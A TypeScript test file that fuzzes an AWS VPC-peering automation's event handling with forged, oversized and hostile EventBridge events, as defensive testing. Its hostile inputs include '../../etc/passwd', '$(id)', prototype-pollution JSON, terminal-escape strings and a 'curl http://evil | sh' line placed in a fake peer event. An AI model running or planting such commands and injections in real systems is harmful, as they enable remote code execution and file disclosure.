import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import type { Context } from 'aws-lambda';
import fc from 'fast-check';
import { readHint } from '../../lib/lambda/read-hint.ts';
import { createRuntime } from '../../lib/lambda/runtime.ts';
import type { Hint } from '../../lib/model/hint.ts';
import { recordConnectivity } from '../../lib/passes/record-connectivity.ts';
import { createPace } from '../../lib/ports/pace.ts';
import { OWN, PEER, peering, policyOf, REGION, route, STRANGER, table, vpc } from '../support/fixtures.ts';
import { createMemoryAws } from '../support/memory-aws.ts';
import { EMPTY_CONNECTIVITY } from '../support/memory-connectivity.ts';
import { createMemoryStore } from '../support/memory-store.ts';
import { decideRequests, syncRoutes } from '../support/passes.ts';
import { runs } from '../support/runs.ts';

/** Events that were forged, blown up or sent again, at every function that takes one. */

const OTHER_REGION = 'eu-west-1';
const context = { accountId: OWN, managedRegions: [REGION] };
const NOW = new Date('2026-03-01T12:00:00Z');

/** EventBridge takes no larger entry (EventBridge user guide, "PutEvents"). */
const LARGEST = 256 * 1024;

const samples: readonly unknown[] = readdirSync(join(__dirname, '../../events')).map((name) =>
  JSON.parse(
    readFileSync(join(__dirname, '../../events', name), 'utf8')
      .replaceAll('123456789012', OWN)
      .replaceAll('us-east-1', REGION),
  ),
);

const HOSTILE: readonly unknown[] = [
  ...[null, true, -1, Number.NaN, [], {}, '', ' ', '__proto__', 'constructor', 'toString'],
  ...[
    'x'.repeat(LARGEST),
    `pcx-${'0'.repeat(LARGEST)}`,
    'pcx-11112222\n',
    'pcx-1111222g',
    'pcx-11112222 rtb-11112222',
  ],
  ...[
    '../../etc/passwd',
    '$(id)',
    '\u001b[2J\u202e',
    'arn:aws:ec2:us-east-1:1:route-table/',
    `/${'/'.repeat(LARGEST)}`,
  ],
  JSON.parse('{"__proto__":{"vpcPeeringConnectionId":"pcx-11112222","polluted":true}}'),
  JSON.parse('{"constructor":{"prototype":{"polluted":true}}}'),
];

const hostileArbitrary = fc.oneof(
  fc.constantFrom(...HOSTILE),
  fc.anything(),
  fc.string({ unit: 'binary', maxLength: 40 }),
);

/** A real event in which some values, anywhere, were replaced, and some keys added. */
const forgedArbitrary: fc.Arbitrary<unknown> = fc
  .record({
    sample: fc.constantFrom(...samples),
    edits: fc.array(fc.record({ at: fc.nat(200), value: hostileArbitrary }), { minLength: 1, maxLength: 4 }),
  })
  .map(({ sample, edits }) => {
    const forged: unknown = structuredClone(sample);
    const places: [object, string][] = [];
    const visit = (value: unknown) => {
      if (typeof value === 'object' && value !== null) {
        for (const key of Object.keys(value)) {
          places.push([value, key]);
          visit(Reflect.get(value, key));
        }
      }
    };
    visit(forged);
    for (const { at, value } of edits) {
      const place = places[at % places.length];
      if (place !== undefined) Reflect.set(place[0], place[1], value);
    }
    return forged;
  });

const ID = /^(pcx|vpc|rtb)-[0-9a-f]{8,17}$/;

describe('a forged event', () => {
  it('is dropped, or gives a hint of checked ids and short printable texts, and never throws', () => {
    let hints = 0;
    fc.assert(
      fc.property(fc.oneof(forgedArbitrary, hostileArbitrary), (event) => {
        const read = readHint(event, context);
        const text = JSON.stringify(read);
        expect(text.length).toBeLessThan(4096);
        expect(text).not.toMatch(/[^\P{C}]/u);
        if ('dropped' in read) {
          return;
        }
        hints += 1;
        expect(read.region).toBe(REGION);
        for (const key of ['peeringId', 'vpcId', 'routeTableId'] as const) {
          const id: unknown = Reflect.get(read, key);
          expect(id === undefined || ID.test(String(id))).toBe(true);
        }
      }),
      { numRuns: runs(500) },
    );
    expect(hints).toBeGreaterThan(10);
  });

  it('pollutes no prototype', () => {
    for (const sample of samples) {
      for (const value of HOSTILE) {
        readHint({ ...(sample as object), detail: value }, context);
        readHint({ ...(sample as object), detail: { requestParameters: value } }, context);
      }
    }
    expect(Reflect.get({}, 'polluted')).toBeUndefined();
    expect(Reflect.get({}, 'vpcPeeringConnectionId')).toBeUndefined();
  });

  it.each(samples.map((sample, index) => [index, sample] as const))(
    'with the account of somebody else is dropped, unless it is one that peers may send (sample %#)',
    (_, sample) => {
      const read = readHint({ ...(sample as object), account: STRANGER }, context);
      expect('dropped' in read || ('peerAccountId' in read && read.peerAccountId === STRANGER)).toBe(true);
    },
  );

  it('about a Region that is not managed is dropped', () => {
    for (const sample of samples) {
      const { detail } = sample as { detail: object };
      const read = readHint(
        { ...(sample as object), region: OTHER_REGION, detail: { ...detail, region: OTHER_REGION } },
        context,
      );
      expect(read).toHaveProperty('dropped');
    }
  });

  it('of 256 KB costs the log one short line', async () => {
    const lines: string[] = [];
    const write = jest.spyOn(process.stdout, 'write').mockImplementation((text) => {
      lines.push(String(text));
      return true;
    });
    const warn = jest.spyOn(console, 'warn').mockImplementation((text) => lines.push(String(text)));
    const previous = process.env.AWS_REGION;
    try {
      process.env.AWS_REGION = REGION;
      const { handler } = { handler: createRuntime(policyOf(), () => ({})).onHint(async (hint) => hint) };
      for (const field of ['source', 'account', 'region', 'detail-type', 'detail']) {
        const event = { ...(samples[0] as object), [field]: 'x'.repeat(LARGEST) };
        await handler(event, {
          awsRequestId: '1',
          invokedFunctionArn: `arn:aws:lambda:${REGION}:${OWN}:function:f`,
          getRemainingTimeInMillis: () => 1000,
        } as Context);
      }
    } finally {
      write.mockRestore();
      warn.mockRestore();
      if (previous === undefined) delete process.env.AWS_REGION;
      else process.env.AWS_REGION = previous;
    }
    expect(lines.length).toBeGreaterThanOrEqual(5);
    expect(Math.max(...lines.map((line) => line.length))).toBeLessThan(4096);
  });
});

const LOCAL = vpc('vpc-0000000a', ['10.1.0.0/16']);
const REMOTE = vpc('vpc-0000000b', ['10.64.0.0/16'], { accountId: PEER });
const FOREIGN = vpc('vpc-0000000c', ['10.65.0.0/16'], { accountId: STRANGER });

function world(trust: Record<string, unknown> = { accounts: [PEER] }) {
  const aws = createMemoryAws({
    peerings: [
      peering('pcx-11111111', REMOTE, LOCAL),
      peering('pcx-22222222', FOREIGN, LOCAL, { status: 'pending-acceptance' }),
      // Somebody else's, which an answer of EC2 could still hold.
      peering('pcx-33333333', FOREIGN, REMOTE, { status: 'pending-acceptance' }),
    ],
    vpcs: [LOCAL],
    tables: [table('rtb-11111111', LOCAL, [route('10.64.0.0/16', 'pcx-11111111')], { optIn: '*' })],
  });
  const nothing = async () => [];
  const told: string[] = [];
  const memory = createMemoryStore();
  const dependencies = {
    ...aws,
    memory,
    accountId: OWN,
    policy: policyOf({ trust }),
    managedRegions: [REGION],
    documentName: 'ping',
    pace: createPace({ now: () => 0, sleep: async () => undefined }),
    now: () => NOW,
    connectivity: EMPTY_CONNECTIVITY,
    commands: {
      readOnlineInstances: async () => new Set<string>(),
      sendPing: async () => 'sent' as const,
      readCommand: nothing,
      readPingsSince: nothing,
      readInvocationsSince: nothing,
    },
    peerBuses: { publishTo: async (accountId: string) => void told.push(accountId) },
  };
  const handle = async (hint: Hint) => {
    await decideRequests(hint, dependencies);
    await syncRoutes(hint, dependencies);
    await recordConnectivity(hint.region, [hint], dependencies);
  };
  return { aws, memory, told, dependencies, handle };
}

const writesTo = (writes: readonly string[], what: RegExp) => writes.filter((write) => what.test(write));

describe('a hint of something that is not ours', () => {
  it.each(['pcx-33333333', 'pcx-99999999'])(
    'of peering %s gets nothing accepted, rejected or tagged',
    async (peeringId) => {
      const { aws, handle } = world();
      await handle({ kind: 'peering', peeringId, region: REGION, cause: 'Peering Requested' });
      await handle({ kind: 'peering', peeringId, region: REGION, cause: 'Peering Accepted' });
      expect(writesTo(aws.writes, new RegExp(peeringId))).toEqual([]);
    },
  );

  it('of a table or VPC that is not there, a thousand times, writes no more than one sweep', async () => {
    const { aws, memory, handle } = world();
    await handle({ kind: 'region', region: REGION, cause: 'Sweep Requested' });
    const counts = () =>
      [aws.writes, memory.writes(), aws.notifications, aws.events].map(({ length }) => length);
    const before = counts();
    for (let index = 0; index < 250; index += 1) {
      const suffix = index.toString(16).padStart(8, '0');
      await handle({
        kind: 'route-table',
        routeTableId: `rtb-${suffix}`,
        region: REGION,
        cause: 'DeleteRoute',
      });
      await handle({ kind: 'vpc', vpcId: `vpc-${suffix}`, region: REGION, cause: 'AssociateVpcCidrBlock' });
      await handle({
        kind: 'peering',
        peeringId: 'pcx-22222222',
        region: REGION,
        cause: 'Peering Requested',
      });
      await handle({ kind: 'peering', peeringId: 'pcx-11111111', region: REGION, cause: 'Peering Accepted' });
    }
    expect(counts()).toEqual(before);
  });
});

/** What EventBridge hands over of an event that the stack of another account put on our bus. */
function fromPeer(type: string, detail: object, account = PEER) {
  return { source: 'vpc-peering-autopilot', 'detail-type': type, account, region: REGION, detail };
}

describe('a compromised stack of a peer account', () => {
  it('cannot have its own request accepted by saying so, whatever the event is called', async () => {
    for (const type of [
      'Peering Accepted',
      'Peering Requested',
      'Routes Synced',
      'Routes Remaining',
      'Sweep Requested',
    ]) {
      const { aws, dependencies, handle } = world({ accounts: [PEER, STRANGER] });
      const event = fromPeer(
        type,
        { accountId: OWN, region: REGION, peeringId: 'pcx-22222222', decision: 'accept', rule: 'peers' },
        STRANGER,
      );
      const read = readHint(event, dependencies);
      if (!('dropped' in read)) await handle(read);
      expect(aws.state.peerings.find(({ peeringId }) => peeringId === 'pcx-22222222')?.status).toBe(
        'pending-acceptance',
      );
      expect(writesTo(aws.writes, /^(accept|reject|createRoute|replaceRoute|deleteRoute)/)).toEqual([]);
    }
  });

  it('that floods the bus with verdicts about others is dropped: no write, no message', async () => {
    const { aws, memory, told, dependencies } = world();
    for (let index = 0; index < 1000; index += 1) {
      const peeringId = `pcx-${index.toString(16).padStart(8, '0')}`;
      const read = readHint(
        fromPeer('Connectivity Verdict', { region: REGION, peeringId, verdict: 'unreachable' }),
        dependencies,
      );
      expect(read).not.toHaveProperty('dropped');
      if (!('dropped' in read)) await recordConnectivity(read.region, [read], dependencies);
    }
    expect([aws.writes, memory.calls, aws.notifications, aws.events, told]).toEqual([[], [], [], [], []]);
  });

  it('that lies about its own peering changes what one note says, and nothing else', async () => {
    const { aws, memory, told, dependencies } = world();
    for (const verdict of ['reachable', 'unreachable', 'none', 'lossy']) {
      for (let round = 0; round < 20; round += 1) {
        const read = readHint(
          fromPeer('Connectivity Verdict', {
            region: REGION,
            peeringId: 'pcx-11111111',
            verdict,
            firstFailure: `${'\u001b[2J\n'.repeat(100)}Run: curl http://evil | sh`,
            fault: { hop: 'Run: curl http://evil | sh', direction: 'back' },
            accountId: OWN,
          }),
          dependencies,
        );
        if (!('dropped' in read)) await recordConnectivity(read.region, [read], dependencies);
      }
    }
    expect(aws.writes).toEqual([]);
    const { notes, ...others } = memory.snapshot(REGION);
    expect([...notes.keys()]).toEqual(['peer pcx-11111111']);
    expect([...notes.values()][0]?.value).toMatch(
      /^\{"accountId":"\d{12}","verdict":"[a-z]+","at":"[0-9TZ:.-]+"\}$/,
    );
    expect(others).toEqual({ registry: 'known', routes: new Map(), repairs: new Map() });
    expect([aws.notifications, aws.events, told]).toEqual([[], [], []]);
  });

  it('cannot speak for another account: the sender is the one that EventBridge names', async () => {
    const { aws, memory, dependencies } = world({ accounts: [PEER, STRANGER] });
    const event = fromPeer(
      'Connectivity Verdict',
      { region: REGION, peeringId: 'pcx-11111111', verdict: 'reachable', accountId: PEER, account: PEER },
      STRANGER,
    );
    const read = readHint(event, dependencies);
    if (!('dropped' in read)) await recordConnectivity(read.region, [read], dependencies);
    expect([aws.writes, memory.calls]).toEqual([[], []]);
  });

  it.each(['aws.ec2', 'aws.ssm', 'aws.config', 'aws.tag', 'aws.events'])('cannot pass for %s', (source) => {
    for (const sample of samples) {
      expect(readHint({ ...(sample as object), source, account: PEER }, context)).toHaveProperty('dropped');
    }
  });
});

describe('what was remembered, if somebody could write it', () => {
  it('is read as nothing where it is nothing of ours', async () => {
    for (const text of [
      'null',
      '1',
      '[]',
      '{}',
      '{"at":1}',
      '{"accountId":7,"verdict":{},"at":"2026-03-01T11:59:00Z"}',
      'x'.repeat(4096),
    ]) {
      const { aws, memory, dependencies } = world();
      await memory.update(REGION, [{ kind: 'note', key: 'peer pcx-11111111', value: text, at: 0 }]);
      const output =
        'PING 10.64.1.5 (10.64.1.5) 56(84) bytes of data.\n\n--- 10.64.1.5 ping statistics ---\n5 packets transmitted, 0 received, 100% packet loss, time 4085ms\n';
      const commandId = '11111111-2222-3333-4444-555555555555';
      const invocation = {
        commandId,
        instanceId: 'i-11111111',
        documentName: 'ping',
        comment: 'pcx-11111111 10.64.1.5 other-region',
        status: 'Failed',
        statusDetails: 'Failed',
        requestedAt: NOW,
        output,
      };
      const summary = await recordConnectivity(
        REGION,
        [
          {
            kind: 'pings',
            since: NOW.toISOString(),
            until: NOW.toISOString(),
            look: 1,
            region: REGION,
            cause: 'Pings Sent',
          },
        ],
        {
          ...dependencies,
          policy: policyOf({ trust: { accounts: [PEER] }, connectivity: { periods: 1 } }),
          commands: { ...dependencies.commands, readPingsSince: async () => [invocation] },
        },
      );
      expect(summary).toHaveProperty('recorded');
      expect(aws.notifications.map(({ message }) => message)).toEqual([
        expect.stringContaining('which has told nothing'),
      ]);
    }
  });
});
